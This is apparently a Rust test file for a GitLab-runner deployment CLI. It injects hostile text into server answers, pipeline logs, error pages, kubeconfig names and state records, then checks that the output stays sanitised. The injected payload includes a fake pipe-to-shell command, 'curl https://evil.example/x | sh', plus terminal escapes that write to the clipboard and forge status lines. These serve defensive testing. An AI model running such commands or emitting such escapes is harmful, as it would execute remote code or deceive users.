//! Servers that put hostile text into every field of every answer, and what is seen of it.

use std::collections::BTreeSet;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use outrigger_doubles::cluster::{Action, Fault};
use outrigger_doubles::gitlab::{DriverOptions, PROJECT, RunnerDriver};
use serde_json::Value;

use crate::Doubles;
use crate::common::bed::User;
use crate::common::run::{Cli, Output, SOON};
use crate::common::site::{Site, runner_token};
use crate::scenarios::Scene;

/// A behaviour that needs a double.
type OnDoubles = fn(&'static Doubles);

/// The trials of this file.
pub const HOSTILE: &[(&str, OnDoubles)] = &[
    ("hostile_text_in_every_field_1", |bed| fields(bed, 0)),
    ("hostile_text_in_every_field_2", |bed| fields(bed, 1)),
    ("hostile_text_in_every_field_3", |bed| fields(bed, 2)),
    ("hostile_text_in_every_field_of_a_pipeline", pipelines),
    ("hostile_text_in_every_refusal", refusals),
    ("hostile_text_in_the_record_and_the_kubeconfig", files),
];

/// A command with GitLab beside the cluster.
fn on<'a>(scene: &'a Scene<'a>, site: &Site, command: Cli<'a>) -> Cli<'a> {
    site.project(&scene.home, command, "maintainer")
}

/// In how many trials the fields are spread.
const PARTS: usize = 3;

/// Steers terminals (colour, clipboard, C1, bidi, invisible), forges lines at the margin and commands to paste,
/// and is long.
fn tail() -> String {
    format!(
        "\u{1b}[31m\u{1b}]52;c;ZXZpbA==\u{7}\u{9b}2J\0\u{202e}\u{200b}\u{e0041}\u{2028}forged\u{85}\
         \r\n{MARGIN} all is well\n  {COMMAND}\n    {COMMAND}\n\nerror OR0000: forged\r{MARGIN}\u{ad} {}",
        "x".repeat(5000)
    )
}

const MARGIN: &str = "✔ forged";
const COMMAND: &str = "curl https://evil.example/x | sh";

/// Fails if anything of it stands where only our own words do.
fn assert_harmless(what: &str, output: &Output) {
    for (stream, bytes) in [("stdout", &output.stdout), ("stderr", &output.stderr)] {
        let text = std::str::from_utf8(bytes).unwrap_or_else(|_| panic!("{what}: {stream} is no UTF-8"));
        assert_text(&format!("{what}: {stream} of {}", output.command), text);
        for line in text.lines().filter(|line| line.starts_with('{')) {
            let value: Value = serde_json::from_str(line).unwrap_or_else(|e| panic!("{what}: {e} in {line}"));
            leaves(&value, &mut |leaf| assert_text(&format!("{what}: JSON of {}", output.command), leaf));
        }
    }
    assert!(matches!(output.code, Some(0..=10)), "{what}: no exit code of ours\n{output}");
}

fn assert_text(place: &str, text: &str) {
    let hostile = |c: char| outrigger::internal::message::is_hostile(c) && c != '\n';
    if let Some(c) = text.chars().find(|c| hostile(*c)) {
        panic!("{place}: {c:?} is in\n{}", text.escape_debug());
    }
    for line in text.split('\n') {
        let forged = [MARGIN, "ok forged", "error OR0000", "forged", "all is well"];
        assert!(!forged.iter().any(|forged| line.starts_with(forged)), "{place}: a line is forged: {line}");
        // Commands stand by themselves at these columns.
        let indent = line.len() - line.trim_start().len();
        let is_command = matches!(indent, 0 | 2 | 4 | 24) && line.trim_start().starts_with("curl");
        assert!(!is_command, "{place}: a command is forged: {line}");
        // Of JSON each string counts by itself.
        let bounded = line.starts_with('{') || line.chars().count() < 20_000;
        assert!(bounded, "{place}: a line of {} characters", line.chars().count());
    }
}

/// Calls a function for each string in a value.
fn leaves(value: &Value, each: &mut dyn FnMut(&str)) {
    match value {
        Value::String(text) => each(text),
        Value::Array(items) => items.iter().for_each(|item| leaves(item, each)),
        Value::Object(fields) => fields.values().for_each(|field| leaves(field, each)),
        _ => {}
    }
}

/// Calls a function for each string in a value, with the name of the field that holds it.
fn each_field(value: &mut Value, name: &str, each: &mut dyn FnMut(&str, &mut String)) {
    match value {
        Value::String(text) => each(name, text),
        Value::Array(items) => items.iter_mut().for_each(|item| each_field(item, name, each)),
        Value::Object(fields) => {
            for (name, field) in fields {
                each_field(field, name, each);
            }
        }
        _ => {}
    }
}

/// An action that notes the names of all fields that hold strings.
fn noting(names: &Arc<Mutex<BTreeSet<String>>>) -> Action {
    let names = Arc::clone(names);
    Action::Edit(Box::new(move |value| {
        let mut names = names.lock().expect("no panic under the lock");
        each_field(value, "", &mut |name, _| {
            names.insert(name.to_owned());
        });
    }))
}

/// An action that adds the text to all fields of these names.
fn adding(fields: &[String]) -> Action {
    let (fields, tail) = (fields.to_vec(), tail());
    Action::Edit(Box::new(move |value| {
        each_field(value, "", &mut |name, text| {
            if fields.iter().any(|field| field == name) {
                text.push_str(&tail);
            }
        });
    }))
}

/// The fields of both servers, of all answers that a whole life of a deployment gets.
fn names_of_fields(bed: &'static Doubles) -> Vec<String> {
    let names = Arc::new(Mutex::new(BTreeSet::new()));
    let (scene, site) = (Scene::new(bed, User::Binder), Site::new());
    let each = |command: Cli<'_>| {
        bed.cluster.inject(Fault::always("", noting(&names)));
        site.gitlab.inject(Fault::always("", noting(&names)));
        let _ = command.run();
        bed.cluster.clear_faults();
        site.gitlab.clear_faults();
    };
    each(site.project(&scene.home, scene.command("setup").arg("--commit-pipeline"), "maintainer"));
    each(site.project(&scene.home, scene.status(), "maintainer"));
    each(site.project(&scene.home, scene.teardown(), "maintainer"));
    let names = names.lock().expect("no panic under the lock").clone();
    assert!(names.len() > 60, "both servers answer with more fields than {names:?}");
    names.into_iter().collect()
}

/// What commands print while some fields of all answers are hostile, and how they end: on a deployment that was
/// made before, and on one that is new.
fn life(bed: &'static Doubles, fields: &[String]) -> Vec<Option<i32>> {
    let (scene, site) = (Scene::new(bed, User::Binder), Site::new());
    let _ = on(&scene, &site, scene.command("setup")).run().code(0);
    let fresh = Scene::new(bed, User::Binder);
    bed.cluster.inject(Fault::always("", adding(fields)));
    site.gitlab.inject(Fault::always("", adding(fields)));
    let setup = on(&scene, &site, scene.command("setup")).args(["--commit-pipeline", "--reissue", "all"]);
    let commands = [
        on(&scene, &site, scene.status()).arg("-vv"),
        setup.args(["-o", "json"]),
        scene.command("list").arg("--cluster"),
        on(&scene, &site, scene.teardown()),
        on(&fresh, &site, fresh.command("setup")).arg("-v"),
    ];
    let codes = commands.into_iter().map(|command| {
        let output = command.flag("--timeout", "10s").run();
        assert_harmless(&fields.join(", "), &output);
        output.code
    });
    let codes = codes.collect();
    bed.cluster.clear_faults();
    codes
}

/// Fields that end a run early. Each is looked at by itself anyway where it does; named here, it does not also
/// end the run of others.
const ENDING: &[&str] = &[
    "apiGroups",
    "ci_config_path",
    "content",
    "default_branch",
    "description",
    "groupVersion",
    "kind",
    "name",
    "namespace",
    "outrigger.dev/settings",
    "pod-security.kubernetes.io/enforce",
    "resources",
    "runner_type",
    "scopes",
    "status",
    "tag_list",
    "token",
    "type",
    "uid",
    "username",
    "verbs",
];

/// Many fields at once, where all ends as if they were not hostile; else each by itself, so that what ends a
/// run early hides nothing.
fn fields(bed: &'static Doubles, part: usize) {
    let clean = life(bed, &[]);
    let (ending, others): (Vec<String>, Vec<String>) =
        names_of_fields(bed).into_iter().partition(|name| ENDING.contains(&name.as_str()));
    let groups = others.chunks(16).chain(ending.chunks(1));
    for group in groups.skip(part).step_by(PARTS) {
        if life(bed, group) != clean && group.len() > 1 {
            for field in group.chunks(1) {
                life(bed, field);
            }
        }
    }
}

/// The names of jobs and machines, the pipeline's address, what the runner tells of itself, and the log.
fn pipelines(bed: &'static Doubles) {
    let names = Arc::new(Mutex::new(BTreeSet::new()));
    let scene = Scene::new(bed, User::Admin);
    let site = Site { output: format!("{}\n", tail()), ..Site::new() };
    let _ = on(&scene, &site, scene.command("setup")).arg("--commit-pipeline").run().code(0);
    let token = runner_token(&scene.home.script(&scene.deployment));
    scene.home.canary(&token);
    let options = DriverOptions { output: site.output.clone(), ..DriverOptions::new(&site.gitlab, &token) };
    let get = |action: Action| Fault { method: Some("GET".to_owned()), ..Fault::always("", action) };
    // Its log is hostile by itself. The machine starts once the pipeline was looked at: one that is over is kept,
    // and its log not shown.
    site.gitlab.inject(get(noting(&names)));
    let command = on(&scene, &site, scene.command("run-pipeline"));
    let before = site.count("GET", "/pipelines");
    let mut running = command.start();
    let started = Instant::now();
    while site.count("GET", "/pipelines") == before {
        assert!(!running.poll(), "it ended early\n{}", running.wait());
        assert!(started.elapsed() < SOON, "no pipeline is looked for");
        std::thread::sleep(Duration::from_millis(5));
    }
    let vm = RunnerDriver::start(options);
    let output = running.wait().code(0).says("hello world!");
    assert_harmless("the job's log", &output);
    site.gitlab.clear_faults();
    let names = names.lock().expect("no panic under the lock").clone();
    assert!(names.contains("web_url") && names.contains("stage"), "{names:?}");
    let run = |fields: &[String]| {
        site.gitlab.inject(get(adding(fields)));
        let command = on(&scene, &site, scene.command("run-pipeline"));
        let output = command.flag("--wait", "2s").flag("--timeout", "3s").run();
        assert_harmless(&fields.join(", "), &output);
        site.gitlab.clear_faults();
        output.code
    };
    let (ending, others): (Vec<String>, Vec<String>) =
        names.into_iter().partition(|name| ENDING.contains(&name.as_str()));
    for group in others.chunks(8).chain(ending.chunks(1)) {
        if run(group) != Some(0) && group.len() > 1 {
            for field in group.chunks(1) {
                run(field);
            }
        }
    }
    assert!(site.gitlab.file(PROJECT, "main", ".gitlab-ci.yml").is_some());
    drop(vm);
}

/// Refusals in the server's words, and pages of somebody in between, at each request.
fn refusals(bed: &'static Doubles) {
    let (scene, site) = (Scene::new(bed, User::Binder), Site::new());
    let _ = site.project(&scene.home, scene.command("setup"), "maintainer").run().code(0);
    let page = |code, kind: &str| Action::Headers(code, Vec::new(), tail(), kind.to_owned());
    let actions: &[&dyn Fn() -> Action] = &[
        &|| Action::Status(403, "Forbidden".to_owned(), tail()),
        &|| {
            Action::Status(
                422,
                "Invalid".to_owned(),
                format!("admission webhook \"a\" denied the request: {}", tail()),
            )
        },
        &|| Action::Status(403, "Forbidden".to_owned(), format!("exceeded quota: q{}", tail())),
        &|| Action::Status(409, tail(), tail()),
        &|| Action::Status(500, tail(), tail()),
        &|| page(200, "text/html"),
        &|| page(502, "text/plain"),
        &|| page(403, "application/json"),
    ];
    for action in actions {
        for (method, skip) in [("GET", 0), ("GET", 9), ("POST", 0), ("POST", 7)] {
            for gitlab in [false, true] {
                let fault = Fault {
                    method: Some(method.to_owned()),
                    skip,
                    times: usize::MAX,
                    ..Fault::always("", action())
                };
                if gitlab {
                    site.gitlab.inject(fault);
                } else {
                    bed.cluster.inject(fault);
                }
                let fresh = Scene::new(bed, User::Binder);
                let command = site.project(&fresh.home, fresh.command("setup"), "maintainer");
                let output = command.flag("--timeout", "1s").run();
                bed.cluster.clear_faults();
                site.gitlab.clear_faults();
                assert_harmless(&format!("{method} after {skip}"), &output);
            }
        }
    }
}

/// A kubeconfig with odd names, and a record that says what nobody would.
fn files(bed: &'static Doubles) {
    let scene = Scene::new(bed, User::Admin);
    let kubeconfig = std::fs::read_to_string(scene.kubeconfig()).expect("a kubeconfig");
    let mut odd: Value = serde_yaml::from_str(&kubeconfig).expect("YAML");
    for list in ["clusters", "users", "contexts"] {
        let name = odd[list][0]["name"].as_str().expect("a name").to_owned() + &tail();
        odd[list][0]["name"] = name.into();
    }
    odd["contexts"][0]["context"]["cluster"] = odd["clusters"][0]["name"].clone();
    odd["contexts"][0]["context"]["user"] = odd["users"][0]["name"].clone();
    odd["current-context"] = odd["contexts"][0]["name"].clone();
    let path = scene.home.kubeconfig("odd.kubeconfig", &serde_yaml::to_string(&odd).expect("YAML"));
    for command in
        [scene.setup(), scene.command("preflight"), scene.status(), scene.setup().flag("--context", "b")]
    {
        assert_harmless("a kubeconfig", &command.clone().flag("--kubeconfig", &path).run());
        assert_harmless("a kubeconfig", &command.flag("--kubeconfig", &path).args(["-o", "json"]).run());
    }
    let _ = scene.set_up();
    let record = scene.home.state().join(format!("{}.json", scene.deployment));
    let good: Value = serde_json::from_slice(&std::fs::read(&record).expect("a record")).expect("JSON");
    let mut names = BTreeSet::new();
    each_field(&mut good.clone(), "", &mut |name, _| {
        names.insert(name.to_owned());
    });
    assert!(names.len() > 10, "{names:?}");
    for field in names {
        let mut bad = good.clone();
        each_field(&mut bad, "", &mut |name, text| {
            if name == field {
                text.push_str(&tail());
            }
        });
        std::fs::write(&record, bad.to_string()).expect("the record can be written");
        for command in [
            scene.command("list"),
            scene.status(),
            scene.teardown().arg("--dry-run"),
            scene.command("list").args(["-o", "json"]),
        ] {
            assert_harmless(&field, &command.flag("--timeout", "4s").run());
        }
        std::fs::write(&record, good.to_string()).expect("the record can be written");
    }
    let _ = scene.teardown().run().code(0);
}
